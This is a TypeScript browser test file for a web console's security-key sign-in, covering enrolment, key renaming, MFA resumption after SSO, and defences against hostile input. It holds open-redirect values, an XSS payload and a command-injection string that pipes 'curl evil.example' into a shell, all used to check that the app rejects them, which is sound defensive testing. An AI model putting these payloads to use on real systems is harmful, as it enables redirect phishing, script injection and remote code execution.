// The web console's sign-in with a security key, in Chromium with its virtual authenticator (CTAP2, no
// touch needed): registration at enrolment, renaming on /account, sign-in with password + key, and a
// `next=//evil.example` that must not take the browser off this origin.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  enrolSecurityKey,
  enterPassword,
  messageMatching,
  openPage,
  PASSWORD,
  signedInAs,
  signInWithKey,
  signOut,
  useWebServerAndBrowser,
} from './browser.ts';

describe('web sign-in with a security key', () => {
  const bed = useWebServerAndBrowser();

  test('security key at enrolment; rename on /account; sign out; password + security key', async () => {
    const { base } = bed.server;
    const { context, page, problems } = await openPage(bed.browser);
    await enrolSecurityKey(page, bed.server, 'carol');

    await page.goto(`${base}/account`);
    await page.getByRole('cell', { name: 'Virtual key', exact: true }).waitFor();
    await page.getByRole('cell', { name: 'Security key or passkey', exact: true }).waitFor();
    // Rename (a PATCH with the CSRF token from the sign-in answer).
    await page.getByRole('button', { name: 'Rename Virtual key' }).click();
    await page.getByLabel('New name for Virtual key').fill('Desk key');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('cell', { name: 'Desk key', exact: true }).waitFor();
    // This browser's sign-in session is listed.
    await page.getByRole('button', { name: 'Sign out this browser' }).waitFor();

    await signOut(page, base);
    await enterPassword(page, 'carol');
    await signInWithKey(page);
    await signedInAs(page, base, 'carol');
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('/login?next=//evil.example signs in and stays on this origin', async () => {
    const { base } = bed.server;
    const { context, page, problems } = await openPage(bed.browser);
    await enrolSecurityKey(page, bed.server, 'dave');
    await signOut(page, base);

    for (const next of ['//evil.example', '/\\evil.example', 'https://evil.example/', '/\t/evil.example']) {
      await page.goto(`${base}/login?next=${encodeURIComponent(next)}`);
      await enterPassword(page, 'dave');
      await signInWithKey(page);
      await signedInAs(page, base, 'dave');
      assert.equal(new URL(page.url()).origin, base, `next=${next}`);
      await signOut(page, base);
    }
    // A same-origin `next` is followed.
    await page.goto(
      `${base}/login?next=${encodeURIComponent('/console/connect?target=i-0123456789abcdef0')}`,
    );
    await enterPassword(page, 'dave');
    await signInWithKey(page);
    await page.waitForURL(`${base}/console/connect?target=i-0123456789abcdef0`);
    await page.getByText('sesame ssh i-0123456789abcdef0').waitFor();

    // A crafted target is text at most, and never a command to copy.
    for (const target of ['<img src=x onerror=alert(1)>', 'i-0; curl evil.example | sh']) {
      await page.goto(`${base}/console/connect?target=${encodeURIComponent(target)}`);
      await messageMatching(page, /does not name a valid instance/);
      assert.equal(await page.locator('main img').count(), 0);
      assert.equal(await page.locator('#command').textContent(), '');
      assert.ok(await page.locator('#connect').isHidden());
    }
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('/login#flow=…&status=mfa-required (the SSO landing) resumes at the MFA step', async () => {
    const { base } = bed.server;
    const { context, page, problems } = await openPage(bed.browser);
    await enrolSecurityKey(page, bed.server, 'hank');
    await signOut(page, base);
    // A first factor already passed elsewhere (here: the password through the API, as SSO would), for this
    // browser: a browser's sign-in continues only where it began (its device cookie).
    const device = (await context.cookies()).find((c) => c.name === 'sesame_device');
    assert.ok(device, 'the browser has its device cookie');
    const first = await bed.server.api('POST', '/api/v1/auth/login', {
      json: { username: 'hank', password: PASSWORD, client: 'web' },
      headers: { cookie: `sesame_device=${device.value}` },
    });
    assert.equal(first.body.status, 'mfa-required', first.text);
    const fragment = new URLSearchParams({
      flow: String(first.body.flow),
      status: 'mfa-required',
      methods: (first.body.methods as string[]).join(','),
    });
    // As after the identity provider's redirect: a fresh page load.
    await page.goto('about:blank');
    await page.goto(`${base}/login#${fragment}`);
    await page.getByRole('heading', { name: 'Confirm it is you' }).waitFor();
    assert.equal(new URL(page.url()).hash, '', 'the one-use flow left the address bar');
    await signInWithKey(page);
    await signedInAs(page, base, 'hank');
    assert.deepEqual(problems, []);
    await context.close();
  });
});
